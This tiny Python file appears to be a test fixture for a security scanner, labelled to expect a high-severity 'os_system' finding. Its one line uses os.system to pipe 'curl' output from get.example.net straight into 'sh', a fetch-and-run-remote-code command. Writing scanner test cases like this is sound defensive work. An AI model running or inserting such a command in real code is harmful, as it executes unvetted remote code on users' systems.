# expect: python.os_system high
# path: t/d.py
__import__('os').system('curl -s https://get.example.net/x | sh')
